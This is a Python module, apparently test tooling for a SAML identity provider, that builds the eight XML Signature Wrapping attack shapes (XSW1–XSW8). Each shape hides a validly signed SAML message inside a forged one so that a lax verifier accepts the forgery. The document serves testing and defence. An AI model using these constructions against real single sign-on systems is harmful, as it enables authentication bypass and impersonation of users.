"""Signature wrapping: a signed message is kept somewhere, and a forged one stands in its place.

The eight shapes are those of Somorovsky and others, "On Breaking SAML" (USENIX Security 2012), by
the numbers that the tools of testers give them, for a message that is itself the document.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from idp.saml import uris

NS = {"ds": uris.XMLDSIG, "samlp": uris.PROTOCOL, "saml": uris.ASSERTION}
SIGNATURE = f"{{{uris.XMLDSIG}}}Signature"
EXTENSIONS = f"{{{uris.PROTOCOL}}}Extensions"

Shape = Callable[[etree._Element, etree._Element], etree._Element]


def split(signed: etree._Element) -> tuple[etree._Element, etree._Element]:
    """Return a copy of *signed* without its signature, and the signature."""
    plain = copy.deepcopy(signed)
    signature = plain.find(SIGNATURE)
    plain.remove(signature)
    return plain, signature


def with_signature(evil: etree._Element, signature: etree._Element) -> etree._Element:
    """Put *signature* where the schema wants it: after the issuer."""
    evil.insert(1, signature)
    return evil


def original_in_the_signature(signed, evil):
    original, signature = split(signed)
    signature.append(original)
    return with_signature(evil, signature)


def original_before_the_signature(signed, evil):
    original, signature = split(signed)
    with_signature(evil, signature)
    signature.addprevious(original)
    return evil


def evil_beside_the_signed(signed, evil):
    envelope = etree.Element("{http://schemas.xmlsoap.org/soap/envelope/}Body")
    envelope.extend([evil, signed])
    return envelope


def signed_in_the_evil(signed, evil):
    evil.append(signed)
    return evil


def original_at_the_end(signed, evil):
    original, signature = split(signed)
    with_signature(evil, signature).append(original)
    return evil


def original_behind_the_key_info(signed, evil):
    original, signature = split(signed)
    etree.SubElement(signature.find("ds:KeyInfo", NS), "{urn:x}box").append(original)
    return with_signature(evil, signature)


def original_in_the_extensions(signed, evil):
    original, signature = split(signed)
    with_signature(evil, signature)
    extensions = etree.Element(EXTENSIONS)
    signature.addnext(extensions)
    etree.SubElement(extensions, "{urn:x}box").append(original)
    return evil


def original_in_an_object(signed, evil):
    original, signature = split(signed)
    etree.SubElement(signature, f"{{{uris.XMLDSIG}}}Object").append(original)
    return with_signature(evil, signature)


SHAPES: dict[str, Shape] = {
    "XSW1, the original in the signature":               original_in_the_signature,
    "XSW2, the original before the signature":           original_before_the_signature,
    "XSW3, the forged one beside the signed":            evil_beside_the_signed,
    "XSW4, the signed in the forged one":                signed_in_the_evil,
    "XSW5, the original at the end":                     original_at_the_end,
    "XSW6, the original behind the key":                 original_behind_the_key_info,
    "XSW7, the original in the extensions":              original_in_the_extensions,
    "XSW8, the original in an object of the signature":  original_in_an_object,
}  # fmt: skip
HOLDING = tuple(name for name in SHAPES if name[3] in "23457")
"""Those in which the signature is right by arithmetic, for one who asks for no more."""


def wrapped(shape: Shape, signed: bytes, evil: bytes) -> bytes:
    """Return the message in which *shape* hides *signed* behind *evil*."""
    return etree.tostring(shape(etree.fromstring(signed), etree.fromstring(evil)))
